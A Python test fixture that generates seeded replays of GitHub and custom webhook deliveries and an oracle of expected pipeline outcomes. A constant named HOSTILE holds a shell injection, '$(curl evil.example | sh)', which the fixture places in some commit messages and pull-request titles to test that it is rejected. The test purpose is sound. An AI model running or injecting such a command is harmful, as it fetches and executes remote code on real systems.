"""What is sent in a replay: sources and stages, deliveries made of a seed, and an oracle that says what each must lead to."""

from __future__ import annotations

import contextlib
import hashlib
import random
import threading
import time
import uuid
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any

import orjson

from tests.flow.stage_world import WORKFLOW, StageWorld

PER_SECOND = 20
MAIN, RELEASE = "refs/heads/main", "refs/heads/release/1"
WEB, SHOP, APP, OWN, STD = "web", "shop", "app", "own", "std"
OF_GITHUB = ("push", "workflow_run", "pull_request", "deployment", "ping", "release")
TAKEN = {WEB: {"push", "workflow_run", "pull_request", "deployment"}, SHOP: {"push", "deployment"}, APP: {"workflow_run"}}
HOSTILE = "$(curl evil.example | sh)"
FORGERIES = ("no signature", "another key", "another body", "sha1", "cut", "odd")
OUTSIDE = ("build", "flaky", "newest")
RESULTS = {
    "build": "passed",
    "flaky": "failed",
    "newest": "passed",
    "all": "passed",
    "after": "passed",
    "deploy": "passed",
    "one": "passed",
}


def declare(world: StageWorld) -> None:
    """Three sources of GitHub, two of other senders, and stages of every kind after them."""
    world.repos(WEB, SHOP, APP)
    flows = [
        {**WORKFLOW, "outputs": {}, "duration_s": 0.3},
        {**WORKFLOW, "id": 12, "name": "Fail", "path": ".github/workflows/fail.yml", "outputs": {}, "result": "failure"},
        {**WORKFLOW, "id": 13, "name": "Slow", "path": ".github/workflows/slow.yml", "outputs": {}, "duration_s": 0.8},
    ]
    for flow in flows:
        flow["on"] = {"workflow_dispatch": {"inputs": {"sha": {}, "title": {}, "reconciler_execution_id": {}}}}
    world.workflows(APP, *flows)
    world.github.settings(kept_deliveries=100_000, log_limit=1_000)
    world.source(WEB, events="[{type: push}, {type: workflow_run}, {type: pull_request}, {type: deployment}]")
    world.source(SHOP, events=f"[{{type: push, filters: [{_payload(RELEASE)}]}}, {{type: deployment}}]")
    world.source(APP, events="[{type: workflow_run}]")
    world.webhook(OWN)
    world.webhook(STD, "standard-webhooks")
    world.stage("all", "concurrency: 64", "executor: {type: noop}", after=_after(WEB))
    world.stage(
        "build",
        "concurrency: 16",
        "inputs: [{name: sha}, {name: title}]",
        f"inputMappings: [{{values: [{_from(WEB, 'sha', '$.after')}, {_from(WEB, 'title', '$.head_commit.message')}]}}]",
        _workflow("ci.yml", "{sha: '${{ inputs.sha }}', title: '${{ inputs.title }}'}"),
        "report: {commitStatus: {context: ci}, deployment: {create: true, environment: staging}}",
        after=_after(WEB, _payload(MAIN), """{type: header, header: {expression: 'headers["X-GitHub-Event"] == "push"'}}"""),
    )
    world.stage("after", "concurrency: 8", "executor: {type: noop}", after=_after("build", _data("$.execution.result", "passed")))
    world.stage(
        "flaky",
        "concurrency: 8",
        _workflow("fail.yml", "{}"),
        "report: {commitStatus: {context: flaky}}",
        after=_after(SHOP, _payload(RELEASE)),
    )
    world.stage(
        "deploy",
        "concurrency: 4",
        "executor: {type: noop}",
        "report: {deploymentStatus: true}",
        after=_after(SHOP, """{type: header, header: {expression: 'headers["X-GitHub-Event"] == "deployment"'}}"""),
    )
    world.stage("one", "executor: {type: noop}", after=_after(OWN))
    world.stage("newest", "queue: latest", _workflow("slow.yml", "{}"), after=_after(STD))


def _after(name: str, *filters: str) -> str:
    kind = "stage" if name == "build" else "event-source"
    return f"{{type: {kind}, name: {name}, filters: [{', '.join(filters)}]}}" if filters else f"{{type: {kind}, name: {name}}}"


def _payload(ref: str) -> str:
    return f'{{type: payload, payload: {{ref: "^{ref}$"}}}}'


def _data(path: str, value: str) -> str:
    return f"{{type: data, data: {{expression: '{path} == \"{value}\"'}}}}"


def _from(source: str, name: str, expression: str) -> str:
    return f"{{name: {name}, valueFrom: {{eventData: {{connection: {source}, expression: {expression}}}}}}}"


def _workflow(file: str, inputs: str) -> str:
    return (
        "executor: {type: github, integration: {name: github}, resource: {type: repository, name: app}, "
        f"spec: {{workflow: {file}, ref: main, inputs: {inputs}}}}}"
    )


@dataclass(frozen=True, slots=True)
class Wanted:
    """What an event leads to: its own state and reason, and what each stage that is connected to its source does with it."""

    state: str = "processed"
    reason: str = ""
    stages: Mapping[str, str] = field(default_factory=dict)
    """An empty text: one item; else the reason for which there is none."""


def wanted(source: str, event: str, payload: Any) -> Wanted:
    """Say what an event must lead to. ``payload`` is None where it cannot be read."""
    if payload is None:
        return Wanted("rejected", "malformed")
    if source in (OWN, STD):
        return Wanted(stages={"one" if source == OWN else "newest": ""})
    if event == "push" and str((payload.get("head_commit") or {}).get("timestamp", "")).startswith("2020"):
        return Wanted("rejected", "stale")
    if event == "ping":
        return Wanted(reason="ping")
    ref = payload.get("ref", "")
    if event not in TAKEN[source] or (source == SHOP and event == "push" and ref != RELEASE):
        return Wanted("rejected", "filtered")
    if source == APP:
        return Wanted()
    if source == SHOP:
        flaky, deploy = ref == RELEASE and event == "push", event == "deployment"
        return Wanted(stages={"flaky": "" if flaky else "filtered", "deploy": "" if deploy else "filtered"})
    build = "filtered"
    if event == "push" and ref == MAIN:
        build = "error" if payload["head_commit"]["message"] == HOSTILE else ""
    return Wanted(stages={"all": "", "build": build})


@dataclass(slots=True)
class Shot:
    """One delivery as a sender sends it, until it has the answer that it is to have."""

    at: float
    source: str
    event: str
    guid: str
    body: bytes
    answer: int = 202
    forgery: str = ""
    dropped: bool = False
    """Never sent: only the provider's list of deliveries knows of it."""
    after: Shot | None = None
    form: bool = False
    done: threading.Event = field(default_factory=threading.Event)

    @property
    def payload(self) -> Any:
        with contextlib.suppress(ValueError):
            return orjson.loads(self.body)
        return None


class Schedule:
    """All that is sent, by time; the same seed makes the same one."""

    def __init__(self, seed: int, count: int) -> None:
        self._dice = random.Random(seed)
        self.seconds = count / PER_SECOND
        self.deployments: list[int] = []
        self.commits: set[str] = set()
        self.shots: list[Shot] = []
        for number in range(count):
            self._case(number, number / PER_SECOND)
        self.shots.sort(key=lambda shot: shot.at)

    def _guid(self) -> str:
        return str(uuid.UUID(int=self._dice.getrandbits(128), version=4))

    def _case(self, number: int, at: float) -> None:
        dice = self._dice
        source = dice.choices((WEB, SHOP, OWN, STD), (60, 22, 12, 6))[0]
        event = dice.choices(OF_GITHUB, (46, 15, 17, 12, 4, 6))[0] if source in (WEB, SHOP) else "go"
        payload = self._payload(source, event, number)
        body = b"{broken " + str(number).encode() if dice.random() < 0.01 else orjson.dumps(payload)
        late = dice.choices((0.0, dice.uniform(0, 1), dice.uniform(0, self.seconds / 3)), (60, 30, 10))[0]
        first = Shot(min(at + late, self.seconds), source, event, self._guid(), body)
        first.form = dice.random() < 0.1 and first.payload is not None  # what cannot be read has no other form
        kinds = ("plain", "twice", "other", "again", "dropped", "forged")
        kind = dice.choices(kinds, (58, 12, 6, 8, 8 if source in (WEB, SHOP) and event != "ping" else 0, 8))[0]
        if kind == "dropped" and first.payload is not None:
            first.dropped, first.at = True, at / 2
        elif kind == "forged":
            first.answer, first.forgery = 401, dice.choice(FORGERIES)
        elif kind in ("twice", "other", "again"):
            self._more(kind, first, payload)
        self.shots.append(first)

    def _more(self, kind: str, first: Shot, payload: Mapping[str, Any]) -> None:
        for _ in range(self._dice.randint(1, 3)):
            more = Shot(first.at + self._dice.expovariate(0.7), first.source, first.event, first.guid, first.body)
            if kind == "again" and first.source != STD:  # there the id is signed: with another one it is another delivery
                more.guid = self._guid()
            elif kind == "other":
                more.body, more.answer, more.after = orjson.dumps({**payload, "changed": self._dice.random()}), 409, first
            self.shots.append(more)

    def _payload(self, source: str, event: str, number: int) -> dict[str, Any]:
        dice = self._dice
        sha = hashlib.sha1(f"{number}:{dice.random()}".encode()).hexdigest()
        self.commits.add(sha)
        name = f"acme/{source}"
        common = {"repository": {"full_name": name, "name": source}, "sender": {"login": dice.choice(("ada", "Zoë 🦀", "x"))}}
        if source in (OWN, STD):
            return {
                "type": "go",
                "id": f"go-{number}",  # without an id or a time two equal bodies would be two events (N7)
                "number": number,
                "deep": [[[dice.random()]]],
                "text": dice.choice(("ok", "a\u0000b", "🦀" * 50)),
            }
        if event == "push":
            ref = dice.choice(
                (MAIN, RELEASE, f"refs/heads/feature/{number}", "refs/tags/v1", "refs/heads/main-not", "refs/heads/x")
            )
            commit: dict[str, Any] = {"id": sha, "message": HOSTILE if dice.random() < 0.1 else f"Change {number}"}
            if dice.random() < 0.02:
                commit["timestamp"] = "2020-01-01T00:00:00Z"
            return {"ref": ref, "after": sha, "head_commit": commit, "commits": [commit] * dice.randint(0, 3), **common}
        if event == "workflow_run":
            run = {"id": 10**9 + number, "head_sha": sha, "head_branch": "main", "status": "completed", "conclusion": "success"}
            return {"action": "completed", "workflow_run": run, **common}
        if event == "pull_request":
            moved = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())  # without it two equal bodies would be two events (N7)
            pull = {
                "number": number,
                "updated_at": moved,
                "title": dice.choice(("Fix", HOSTILE, "a" * 2000)),
                "head": {"sha": sha, "ref": "topic"},
            }
            return {"action": dice.choice(("opened", "synchronize", "closed")), "pull_request": pull, **common}
        if event == "deployment":
            self.deployments.append(10**7 + number)
            made = {"id": 10**7 + number, "sha": sha, "ref": "main", "environment": f"env-{number}", "payload": {}}
            return {"action": "created", "deployment": made, "workflow_run": None, **common}
        if event == "ping":
            return {"zen": "Anything added dilutes everything else.", "hook_id": number, **common}
        return {"action": "published", "release": {"tag_name": f"v{number}"}, **common}


def known_commits(world: StageWorld, commits: Iterable[str]) -> None:
    """Let the provider have the commits that events will be about: it takes a status of no other."""
    repos = world.github.state()["repos"]
    for repository in repos.values():
        repository["commits"].update({commit: {} for commit in commits})
    world.github.put_state({"repos": repos})


def known_deployments(world: StageWorld, ids: Sequence[int]) -> None:
    """Let the provider have the Deployments that events will be about."""
    number = str(world.github.state()["repos"][f"acme/{SHOP}"]["id"])
    about = {
        "task": "deploy",
        "payload": {},
        "description": None,
        "transient_environment": False,
        "production_environment": True,
        "creator": "sandbox-bot",
        "created_at": "2026-01-01T00:00:00Z",
        "updated_at": "2026-01-01T00:00:00Z",
        "run_id": None,
    }
    rows = [
        {
            "id": one,
            "sha": "0" * 40,
            "ref": "main",
            "environment": f"e{one}",
            "original_environment": f"e{one}",
            "statuses": [],
            **about,
        }
        for one in ids
    ]
    world.github.put_state({"deployments": {number: rows}})
